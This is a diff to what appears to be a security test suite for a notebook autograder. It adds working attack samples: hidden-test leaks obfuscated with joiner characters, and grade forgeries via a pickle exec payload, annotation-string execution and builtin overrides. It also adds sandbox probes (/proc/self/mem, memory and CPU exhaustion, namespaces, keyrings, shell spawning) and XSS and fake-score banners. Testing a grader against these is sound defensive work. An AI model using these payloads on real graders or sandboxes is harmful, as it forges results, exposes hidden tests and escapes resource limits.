@@ -13,6 +13,8 @@ the grader to follow, outputs to flood it, memory and files, leaks, scripts.
 
 from __future__ import annotations
 
+import pickle
+
 from answers import shares_storage
 from submissions import answer_source
 
@@ -175,8 +177,18 @@ def add_scaled(x, y, alpha):
     leak_caller()
     return _real_add_scaled(x, y, alpha)''',
 }
+# The same leak with a combining grapheme joiner (U+034F) between every character, which a
+# comparison that dropped only spacing and format characters read past.
+HARM_ATTACKS["attack-joiner-leak"] = '''\
+import inspect
+def leak_caller():
+    print("\\u034f".join("".join(inspect.getsourcelines(inspect.currentframe().f_back.f_back)[0])))
+_real_add_scaled = add_scaled
+def add_scaled(x, y, alpha):
+    leak_caller()
+    return _real_add_scaled(x, y, alpha)'''
 # A leaked test appears in the output of the cell that calls the student's function.
-AFTER_SOLUTIONS = ("attack-print-hidden-tests",)
+AFTER_SOLUTIONS = ("attack-print-hidden-tests", "attack-joiner-leak")
 
 # The six ways to full marks for a wrong answer that plain nbgrader, and our grader as it
 # was, fell to. Each replaces one answer of the all-right notebook of 01 (the grade_id
@@ -258,6 +270,53 @@ def add_scaled_(x, y, alpha):
     return x + alpha * y''',
 }
 EXTRA_FILES = {"forgery-extra-module": {"helpers.py": DISPLAY_HOOK + "\n"}}
+
+# The kernel's execute_request handler replaced, as in forgery-execute-request, by code that
+# no construct of the notebook shows: text that a function of an allowed module runs.
+FORGE_HANDLER = FORGERIES["forgery-execute-request"].split("def add_scaled_")[0].replace(
+    "import json\n", "import json\nfrom IPython import get_ipython\n")
+WRONG_ADD_SCALED_ = '''\
+def add_scaled_(x, y, alpha):
+    """Update x in place to x + alpha * y and return x itself."""
+    return x + alpha * y'''
+
+
+class _RunsTheForgery:
+    """Unpickled, runs ``FORGE_HANDLER``: what ``torch.load(..., weights_only=False)`` does
+    with whatever it is given."""
+
+    def __reduce__(self):
+        return exec, (FORGE_HANDLER,)
+
+
+_HINT = f"exec({FORGE_HANDLER!r}) or int"
+FORGERIES.update({
+    # functools.singledispatch evaluates an annotation that is a name bound to a string
+    # (typing.get_type_hints): the string runs.
+    "forgery-singledispatch": f'''\
+import functools
+hint = {_HINT!r}
+def handler(value: hint):
+    return value
+functools.singledispatch(lambda value: value).register(handler)
+{WRONG_ADD_SCALED_}''',
+    # torch.utils.model_zoo.load_url unpickles a local file:// URL.
+    "forgery-model-zoo": f'''\
+import torch
+open("/tmp/weights.pt", "wb").write({pickle.dumps(_RunsTheForgery(), protocol=2)!r})
+try:
+    torch.utils.model_zoo.load_url("file:///tmp/weights.pt", model_dir="/tmp/hub", weights_only=False)
+except Exception:
+    pass
+{WRONG_ADD_SCALED_}''',
+    # A walrus in a comprehension binds in the notebook's namespace: a test cell that calls
+    # bool() would call the fake.
+    "forgery-walrus-builtin": f'''\
+[(bool := lambda value=False: True) for _ in (0,)]
+{DOUBLES_ALPHA}''',
+})
+FORGED_CELL.update(dict.fromkeys(("forgery-singledispatch", "forgery-model-zoo", "forgery-walrus-builtin"),
+                                 "add_scaled_"))
 
 VICTIM = "/tmp/autograder-attack-victim"  # a private (0600) file the test makes outside the course
 # What grading runs after the kernel, and what the kernel leaves: each is a cell added at
@@ -351,5 +410,84 @@ display({"text/html": '<script>document.title = "owned"</script><img src="x" one
          "text/plain": "plain"}, raw=True)
 display({"application/javascript": "alert(6)"}, raw=True)''',
 }
+AFTER_THE_TESTS.update({
+    # The kernel's own memory, read and written with open(): no audit hook sees it.
+    "attack-proc-self-mem": '''\
+for mode in ("r+b", "rb"):
+    try:
+        open("/proc/self/mem", mode).close()
+        print("/proc/self/mem", mode, "opened")
+    except OSError as error:
+        print("/proc/self/mem", mode, "refused:", type(error).__name__)''',
+    # Four DataLoader workers, each under the per-process cap: 4.8 GiB between them.
+    "attack-dataloader-memory": '''\
+import time
+from torch.utils.data import DataLoader, Dataset
+class Hog(Dataset):
+    def __len__(self):
+        return 4
+    def __getitem__(self, index):
+        hog = bytearray(1200 * 2**20)
+        time.sleep(3)
+        return index
+try:
+    print("loaded:", list(DataLoader(Hog(), num_workers=4, batch_size=1, timeout=60)))
+except Exception as error:
+    print("dataloader stopped:", type(error).__name__)''',
+    # A System V segment outlives every process that attached it.
+    "attack-shared-memory": '''\
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+print("shmget 512 MiB:", libc.shmget(0, 512 * 2**20, 0o1600), ctypes.get_errno())''',
+    # A user namespace of its own, where a kernel may mount a tmpfs no limit holds.
+    "attack-user-namespace": '''\
+import subprocess
+done = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c",
+                       "mount -t tmpfs none /tmp && echo mounted"], capture_output=True, text=True)
+print("unshare:", done.returncode, done.stdout.strip() or done.stderr.strip()[:80])''',
+    # Sixteen spinning processes: one core's time between them, not the machine's.
+    "attack-cpu-spin": '''\
+import os, time
+start = time.monotonic()
+for _ in range(16):
+    if os.fork() == 0:
+        while time.monotonic() - start < 3:
+            pass
+        os._exit(0)
+for _ in range(16):
+    os.wait()
+used = os.times()
+print("cpu per wall second:", round((used.children_user + used.children_system) / (time.monotonic() - start), 2))''',
+    # Metadata is content too: 60 displays with 48 MiB of it each.
+    "attack-display-metadata": '''\
+for index in range(60):
+    display({"text/plain": str(index)}, metadata={"junk": "x" * (48 * 2**20)}, raw=True)
+print("sent")''',
+    # The worker's log: written to, and read back through a descriptor the kernel held.
+    "attack-log-descriptor": '''\
+import os
+targets = []
+for fd in os.listdir("/proc/self/fd"):
+    try:
+        targets.append(os.readlink(f"/proc/self/fd/{fd}"))
+    except OSError:
+        pass
+print("files held:", sorted(t for t in targets if not t.startswith(("pipe:", "socket:", "anon_inode:"))))
+os.write(2, b"\\x1b]0;owned\\x07\\x1b[2J" + b"y" * (29 * 2**20) + b"\\n")''',
+    # A key in a keyring, which no namespace holds: the next kernel would read it.
+    "attack-keyring": '''\
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+print("add_key:", libc.syscall(248, b"user", b"for-the-next-kernel", b"secret", 6, -3), ctypes.get_errno())''',
+    # torch.utils.collect_env.run starts a shell.
+    "attack-collect-env-shell": '''\
+import torch
+print("shell said:", torch.utils.collect_env.run("id -u; echo ran"))''',
+    # A raw cell (RAW_BANNER) claims full marks on the student's own feedback page.
+    "attack-raw-banner": 'print("see above")',
+})
+RAW_BANNER = ('<div class="banner" style="background: #2a8a2a; color: white; font-size: 2em">'
+              '10/10: all hidden tests passed</div>')
+
 # A markdown cell the script attack adds too: feedback renders Markdown as HTML.
 SCRIPT_MARKDOWN = '<script>alert(7)</script>\n\n<img src="x" onerror="alert(8)"> [click](javascript:alert(9))'
